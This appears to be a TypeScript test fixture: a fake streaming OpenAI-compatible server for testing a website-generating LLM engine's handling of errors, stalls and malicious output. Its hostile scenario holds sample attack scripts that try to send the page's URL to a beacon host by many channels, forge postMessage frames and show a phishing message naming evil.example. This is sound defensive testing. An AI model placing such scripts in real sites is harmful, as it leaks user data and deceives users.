import { createServer, type IncomingMessage, type ServerResponse } from "node:http";
import type { AddressInfo, Socket } from "node:net";
import { contextErrorBody, cutAnswer, HUGE_ANSWER_CHARS, llamaFinalFrame, llamaUsageFrame } from "./fake-provider-edges";
import { FLOOD_SCRIPT } from "./flood-site";

/*
 * A real HTTP server speaking the streaming Chat Completions protocol (SSE `chat.completion.chunk`
 * frames, then `data: [DONE]`), for tests of the LLM engine without a network or a key.
 *
 * Scenarios are picked per generation by a tag in the prompt: `[fake:<name>]`, optionally limited
 * to one kind of request (`[fake:drop@css]`) and to the first matching request (`drop-once`).
 * Names: ok, slow, big, 401, 403, 404, 500, 429 (always, retry-after: 0), 429-once (retry-after: 1),
 * drop (socket destroyed mid-answer), truncate (ends mid-answer, no finish), garbage (a
 * malformed frame), paced (the big page at ~300 characters/s, a model's pace), stall (a few tokens, then silence until the client gives up), hang (no
 * response at all), bad-plan (prose instead of JSON; bad-plan-once: only the first time), prose
 * (a refusal in words instead of the page's markup),
 * hostile (a site whose script attacks the workspace: forged frame messages, then a real error;
 * with `beacon=<url>` in the prompt, instead a site that tries every way out to that url),
 * flood (a site whose script floods the app with junk messages for as long as it runs: flood-site.ts).
 * Real providers' edges (fake-provider-edges.ts): length (the answer cut by the token limit,
 * `finish_reason: "length"`; a continuation request gets the rest, restating the cut's end and
 * reopening the fence as models do), length-always (every answer cut), ctx-llama / ctx-openai
 * (llama.cpp's and OpenAI's 400 for a prompt over the context window), llama (llama.cpp's stream
 * shape: `content: null` first, `delta: {}` + `timings` last, usage only when asked, its error
 * body), huge (an 8 MiB answer, a model stuck repeating itself).
 *
 * `hold()` makes every answer wait (after the request is recorded) until the returned release is
 * called, so a test can keep a generation running for as long as it needs, without timing.
 * `holdAfter(kind, chars)` pauses the next answer of that kind mid-stream, once it has sent at
 * least `chars` characters, until the returned release is called: the model is then "still
 * writing" for as long as the test looks at what has arrived so far.
 */

export interface FakeRequest {
  index: number;
  kind: FakeKind;
  model: string;
  authorization: string | undefined;
  scenario: string;
  messages: { role: string; content: string }[];
  status: number;
  receivedAt: number;
  /** The chunks of content sent, in order (their concatenation is the answer so far). */
  chunks: string[];
  /** The client closed the connection before the fake had finished answering. */
  aborted: boolean;
  /** The fake finished its answer (or error response). */
  completed: boolean;
  /** Characters sent when a `holdAfter` pause stopped this answer (the latest pause reached). */
  pausedAt?: number;
  /** The request's `max_tokens`, when it set one. */
  maxTokens?: number;
  /** The finish reason the fake ended its answer with. */
  finishReason?: string;
}

export interface FakeOpenAI {
  /** Base URL for OPENAI_BASE_URL, ending in /v1. */
  url: string;
  requests: FakeRequest[];
  waitFor: (predicate: (requests: FakeRequest[]) => boolean, timeoutMs?: number) => Promise<void>;
  /** Holds every answer until the returned function is called. */
  hold: () => () => void;
  /**
   * Pauses the next `kind` answer not yet started once it has sent `chars` characters, until the
   * returned release is called. Several calls before that answer starts give it several pauses.
   */
  holdAfter: (kind: FakeKind, chars: number) => () => void;
  close: () => Promise<void>;
}

export type FakeKind = "plan" | "edit-plan" | "html" | "css" | "js" | "unknown";

const TAG = /\[fake:([a-z0-9-]+)(?:@([a-z-]+))?(?:#(\w+))?\]/;
const delay = (ms: number) => new Promise((r) => setTimeout(r, ms));

function classify(messages: FakeRequest["messages"]): FakeKind {
  const system = messages.find((m) => m.role === "system")?.content ?? "";
  const format = /Output format: (\w+)/.exec(system)?.[1];
  if (format === "JSON") return system.includes('"sections"') ? "plan" : "edit-plan";
  if (format === "HTML") return "html";
  if (format === "CSS") return "css";
  if (format === "JavaScript") return "js";
  return "unknown";
}

async function readBody(req: IncomingMessage): Promise<string> {
  const parts: Buffer[] = [];
  for await (const part of req) parts.push(part as Buffer);
  return Buffer.concat(parts).toString("utf8");
}

/** Splits text into chunks of whole code points, as a model's tokens would arrive. */
function toChunks(text: string, size: number): string[] {
  const points = Array.from(text);
  const chunks: string[] = [];
  for (let i = 0; i < points.length; i += size) chunks.push(points.slice(i, i + size).join(""));
  return chunks;
}

/** Plain slices, for the huge answer (ASCII only: no code point to split). */
const sliceChunks = (text: string, size: number) => Array.from({ length: Math.ceil(text.length / size) }, (_, i) => text.slice(i * size, (i + 1) * size));

const frame = (model: string, delta: Record<string, unknown>, finish: string | null) =>
  `data: ${JSON.stringify({
    id: "chatcmpl-fake",
    object: "chat.completion.chunk",
    created: 1_700_000_000,
    model,
    choices: [{ index: 0, delta, finish_reason: finish }],
  })}\n\n`;

const escapeHtml = (s: string) => s.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;");
/** The text between <tag> and </tag> in the user's message (the engine's "current file" block). */
const readBlock = (text: string, tag: string) => new RegExp(`<${tag}>\\n([\\s\\S]*?)\\n</${tag}>`).exec(text)?.[1];

/** A deterministic body of markup: header, `count` sections (with entities and an emoji), footer. */
function buildPage(count: number): string {
  const sections = Array.from({ length: count }, (_, i) =>
    `<section id="feature-${i + 1}" class="feature">\n  <h2>Feature ${i + 1} &amp; friends 🍰</h2>\n` +
    `  <p class="lead">Fresh from the oven every morning: ${"crumbly, buttery, golden ".repeat(3)}and made by hand.</p>\n` +
    `  <ul class="points"><li>Stone-baked</li><li>Local flour</li><li>Open at 7</li></ul>\n</section>`,
  );
  return `<header class="site-header">\n  <h1 class="brand">Crumb &amp; Co</h1>\n  <nav class="nav"><a href="#feature-1">Menu</a> <button class="menu-toggle" aria-expanded="false">☰</button></nav>\n</header>\n<main>\n${sections.join("\n")}\n</main>\n<footer class="site-footer"><p>© Crumb &amp; Co</p></footer>`;
}

/**
 * A hostile site: markup, styles and a script that each try to reach `beacon` (images, styles,
 * fonts, frames, forms, fetch, XHR, WebSocket, EventSource, sendBeacon, workers), carrying the
 * page's own URL. When every attempt has settled the script marks the body `data-hostile="done"`
 * and writes what it saw. It does not navigate itself (CSP cannot stop that; see PREVIEW_CSP).
 */
function buildHostileAnswer(kind: FakeKind, beacon: string): string {
  if (kind === "html") {
    return "```html\n" + `<main><h1 id="hostile">Totally harmless</h1><img src="${beacon}/img" alt=""><iframe src="${beacon}/frame"></iframe>` +
      `<form id="leak" action="${beacon}/form" method="post"><input name="x" value="1"></form><video src="${beacon}/video"></video></main>` + "\n```";
  }
  if (kind === "css") return `@import url("${beacon}/import.css");\n@font-face { font-family: leak; src: url("${beacon}/font"); }\nbody { background: url("${beacon}/bg"); font-family: leak; }`;
  if (kind === "js") {
    return `(function () {
  var b = ${JSON.stringify(beacon)} + "/js?u=" + encodeURIComponent(location.href);
  var tries = [];
  function settle(p) { tries.push(Promise.resolve(p).then(function () {}, function () {})); }
  settle(fetch(b + "&via=fetch", { mode: "no-cors" }));
  settle(new Promise(function (done) { var x = new XMLHttpRequest(); x.onloadend = done; try { x.open("GET", b + "&via=xhr"); x.send(); } catch (e) { done(); } }));
  settle(new Promise(function (done) { var i = new Image(); i.onload = i.onerror = done; i.src = b + "&via=img"; }));
  settle(new Promise(function (done) { try { var w = new WebSocket(b.replace(/^http/, "ws") + "&via=ws"); w.onerror = w.onclose = done; } catch (e) { done(); } }));
  settle(new Promise(function (done) { try { var e = new EventSource(b + "&via=sse"); e.onerror = function () { e.close(); done(); }; } catch (x) { done(); } }));
  try { navigator.sendBeacon(b + "&via=beacon", "x"); } catch (e) {}
  try { new Worker(b + "&via=worker"); } catch (e) {}
  try { var l = document.createElement("link"); l.rel = "prefetch"; l.href = b + "&via=prefetch"; document.head.appendChild(l); } catch (e) {}
  try { document.getElementById("leak").submit(); } catch (e) {}
  Promise.all(tries).then(function () {
    var p = document.createElement("p");
    p.id = "hostile-report";
    p.textContent = location.href;
    document.body.appendChild(p);
    document.body.setAttribute("data-hostile", "done");
  });
})();`;
  }
  return buildAnswer({ kind, messages: [], scenario: "ok" });
}

/** What a well-behaved model would answer to each of the engine's requests. */
function buildAnswer({ kind, messages, scenario }: { kind: FakeKind; messages: FakeRequest["messages"]; scenario: string }): string {
  const user = messages.filter((m) => m.role === "user").map((m) => m.content).join("\n");
  const beacon = /beacon=(http:\/\/[\w.:]+)/.exec(user)?.[1];
  if (scenario === "hostile" && beacon && kind !== "plan") return buildHostileAnswer(kind, beacon);
  if ((kind === "plan" || kind === "edit-plan") && scenario.startsWith("bad-plan")) return "Sure! I would build a hero, a menu and a contact form.";
  if (kind === "plan") {
    return '```json\n{"sections": ["hero", "features", "pricing", "contact"], "style": "Calm blue palette, generous whitespace, rounded cards", "interactivity": "Mobile menu toggle and smooth scrolling"}\n```';
  }
  if (kind === "edit-plan") return '{"html": "Add the requested section", "css": "Style the new section", "js": ""}';
  if (kind === "html" && scenario === "prose") return "I'm sorry, but I can't help with building that website.";
  if (kind === "html") {
    // A prompt aimed at one element: answer that element alone, its first heading renamed.
    const element = readBlock(user, "element");
    if (element !== undefined) {
      const request = (/Edit request: (.*)/.exec(user)?.[1] ?? "edit").replace(TAG, "").trim();
      return "```html\n" + element.replace(/(<h[1-6]\b[^>]*>)[\s\S]*?(<\/h[1-6]>)/, (_m, open: string, close: string) => open + escapeHtml(request) + close) + "\n```";
    }
    const current = readBlock(user, "current");
    if (current === undefined) return "```html\n" + buildPage(scenario === "big" || scenario === "paced" ? 56 : 8) + "\n```";
    const request = (/Edit request: (.*)/.exec(user)?.[1] ?? "edit").replace(TAG, "").trim();
    const added = `<section id="edit-${current.length}" class="edited">\n  <h2>${escapeHtml(request)}</h2>\n</section>`;
    return current.includes("</main>") ? current.replace("</main>", `${added}\n</main>`) : `${current}\n${added}`;
  }
  if (kind === "css") {
    const current = readBlock(user, "current");
    const rules = Array.from({ length: 24 }, (_, i) => `.feature:nth-of-type(${i + 1}) h2 { color: hsl(${i * 15} 60% 35%); }`);
    const base = `:root { --accent: #2563eb; }\nbody { margin: 0; font-family: system-ui, sans-serif; }\n${rules.join("\n")}`;
    return current === undefined ? base : `${current}\n.edited { padding: 2rem; }`;
  }
  if (kind === "js" && scenario === "hostile") return HOSTILE_SCRIPT;
  if (kind === "js" && scenario === "flood") return FLOOD_SCRIPT;
  if (kind === "js") {
    return readBlock(user, "current") ?? 'document.querySelector(".menu-toggle")?.addEventListener("click", (e) => {\n  e.currentTarget.setAttribute("aria-expanded", "true");\n});';
  }
  return "";
}

/**
 * What a malicious generated site does once its script runs in the preview frame: fifty "ready"s
 * from made-up runtimes (to make the app re-send the site fifty times), a "rendered" for a version
 * that does not exist, an app-looking phishing message, then a genuine runtime error.
 */
export const PHISHING_TEXT = "Your session expired, log in again at evil.example";
export const HOSTILE_ERROR = "hostile: menu is null";
const HOSTILE_SCRIPT = [
  'const forge = (m) => parent.postMessage(Object.assign({ source: "openv0-preview-frame", v: 1 }, m), "*");',
  'for (let i = 0; i < 50; i++) forge({ type: "ready", instance: "forged-" + i });',
  'forge({ type: "rendered", version: 999, scriptRan: true });',
  `forge({ type: "script-error", message: ${JSON.stringify(PHISHING_TEXT)} });`,
  `setTimeout(() => { throw new Error(${JSON.stringify(HOSTILE_ERROR)}); }, 0);`,
].join("\n");

function sendError(res: ServerResponse, record: FakeRequest, status: number, headers: Record<string, string> = {}) {
  record.status = status;
  // Like OpenAI's, the body echoes part of the key: the engine must never forward it.
  const body = { error: { message: "Incorrect API key provided: sk-test***cret. Rate limit or upstream failure.", type: "fake_error", code: String(status) } };
  res.writeHead(status, { "content-type": "application/json", ...headers });
  res.end(JSON.stringify(body));
  record.completed = true;
}

/** Starts the fake on 127.0.0.1, port 0. */
export async function startFakeOpenAI(): Promise<FakeOpenAI> {
  const requests: FakeRequest[] = [];
  const onceUsed = new Set<string>();
  let gate: Promise<void> = Promise.resolve();
  const pauses: { kind: FakeKind; chars: number; gate: Promise<void>; claimed: boolean }[] = [];
  const sockets = new Set<Socket>();

  const server = createServer((req, res) => {
    void handle(req, res).catch(() => res.destroy());
  });
  server.on("connection", (socket) => {
    sockets.add(socket);
    socket.on("close", () => sockets.delete(socket));
  });

  async function handle(req: IncomingMessage, res: ServerResponse) {
    if (req.method !== "POST" || req.url !== "/v1/chat/completions") {
      res.writeHead(404, { "content-type": "application/json" }).end('{"error":{"message":"not found"}}');
      return;
    }
    const body = JSON.parse(await readBody(req)) as {
      model: string; messages: FakeRequest["messages"]; stream?: boolean; max_tokens?: number;
      stream_options?: { include_usage?: boolean };
    };
    const kind = classify(body.messages);
    const record: FakeRequest = {
      index: requests.length, kind, model: body.model, authorization: req.headers.authorization, scenario: "ok",
      messages: body.messages, status: 200, receivedAt: Date.now(), chunks: [], aborted: false, completed: false,
      maxTokens: body.max_tokens,
    };
    requests.push(record);
    let droppedByFake = false;
    res.on("close", () => {
      if (!record.completed && !droppedByFake) record.aborted = true;
    });

    const tag = TAG.exec(body.messages.map((m) => m.content).join("\n"));
    if (tag && (!tag[2] || tag[2] === kind)) {
      const name = tag[1]!;
      const once = name.endsWith("-once");
      if (!once || !onceUsed.has(tag[0])) {
        if (once) onceUsed.add(tag[0]);
        record.scenario = name;
      }
    }
    const scenario = record.scenario;
    // This answer's mid-stream pauses, in the order it reaches them.
    const mine = pauses.filter((p) => p.kind === kind && !p.claimed).sort((a, b) => a.chars - b.chars);
    for (const p of mine) p.claimed = true;
    let sent = 0;
    const status = /^(\d{3})(-once)?$/.exec(scenario)?.[1];
    if (status === "429") return sendError(res, record, 429, { "retry-after": scenario === "429-once" ? "1" : "0" });
    if (status) return sendError(res, record, Number(status));
    const contextError = contextErrorBody(scenario);
    if (contextError) {
      record.status = 400;
      res.writeHead(400, { "content-type": "application/json" }).end(JSON.stringify(contextError));
      record.completed = true;
      return;
    }

    if (scenario === "hang") return; // Never answers, not even headers, until the client leaves.
    await gate;
    const whole = scenario === "huge" && kind === "html"
      ? "```html\n" + "<p>again and again</p>\n".repeat(Math.ceil(HUGE_ANSWER_CHARS / 23))
      : buildAnswer({ kind, messages: body.messages, scenario });
    const { answer, finish } = cutAnswer(scenario, kind, whole, body.messages);
    record.finishReason = finish;
    const llama = scenario === "llama";
    const chunks = scenario === "huge" ? sliceChunks(answer, 65_536) : toChunks(answer, scenario === "big" ? 16 : 24);
    // paced: a model's pace, 24 characters every 80 ms (300 characters/s).
    const chunkDelay = scenario === "slow" ? 40 : scenario === "big" ? 4 : scenario === "paced" ? 80 : 1;
    const cutAt = Math.max(2, Math.floor(chunks.length * 0.4));
    res.writeHead(200, { "content-type": "text/event-stream", "cache-control": "no-cache", connection: "keep-alive" });
    res.write(frame(body.model, { role: "assistant", content: llama ? null : "" }, null));

    for (const [i, chunk] of chunks.entries()) {
      if (res.destroyed) return;
      if (i === cutAt) {
        if (scenario === "drop" || scenario === "drop-once") {
          droppedByFake = true;
          res.socket?.destroy();
          return;
        }
        if (scenario === "truncate") {
          record.completed = true;
          res.end();
          return;
        }
        if (scenario === "garbage") res.write('data: {"id": "chatcmpl-fake", "choices": [ oops this is not json\n\n');
        if (scenario === "stall") return; // Silence; the response stays open until the client leaves.
      }
      while (mine.length > 0 && sent >= mine[0]!.chars) {
        record.pausedAt = sent;
        await mine.shift()!.gate;
        if (res.destroyed) return;
      }
      // Like a real server, it writes no faster than the client reads (the huge answer relies on it).
      if (!res.write(frame(body.model, { content: chunk }, null))) await new Promise((r) => (res.once("drain", r), res.once("close", r)));
      record.chunks.push(chunk);
      sent += chunk.length;
      await delay(chunkDelay);
    }
    if (llama) {
      res.write(llamaFinalFrame(body.model, finish, answer.length));
      if (body.stream_options?.include_usage) res.write(llamaUsageFrame(body.model, answer.length));
    } else res.write(frame(body.model, {}, finish));
    res.write("data: [DONE]\n\n");
    record.completed = true;
    res.end();
  }

  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const { port } = server.address() as AddressInfo;

  const waitFor = (predicate: (r: FakeRequest[]) => boolean, timeoutMs = 20_000) =>
    new Promise<void>((resolve, reject) => {
      const started = Date.now();
      const tick = () => {
        if (predicate(requests)) return resolve();
        if (Date.now() - started > timeoutMs) {
          return reject(new Error(`fake OpenAI: condition not met; requests: ${requests.map((r) => `${r.kind}:${r.scenario}:${r.status}${r.aborted ? ":aborted" : ""}`).join(", ")}`));
        }
        setTimeout(tick, 20);
      };
      tick();
    });

  return {
    url: `http://127.0.0.1:${port}/v1`,
    requests,
    waitFor,
    hold: () => {
      let release!: () => void;
      gate = new Promise<void>((resolve) => (release = resolve));
      return () => release();
    },
    holdAfter: (kind, chars) => {
      let release!: () => void;
      pauses.push({ kind, chars, claimed: false, gate: new Promise<void>((resolve) => (release = resolve)) });
      return () => release();
    },
    close: async () => {
      for (const socket of sockets) socket.destroy();
      await new Promise<void>((resolve) => server.close(() => resolve()));
    },
  };
}

/** Environment for an app server that generates with the fake (small stall timeout, no start limit). */
export function llmServerEnv(fake: FakeOpenAI, overrides: Record<string, string> = {}): Record<string, string> {
  return {
    GENERATION_ENGINE: "openai",
    OPENAI_BASE_URL: fake.url,
    OPENAI_API_KEY: "test",
    OPENAI_MODEL: "fake-model",
    LLM_STALL_TIMEOUT_MS: "1500",
    LLM_MAX_RETRIES: "2",
    RATE_LIMIT_GENERATIONS_PER_MINUTE: "0",
    ...overrides,
  };
}
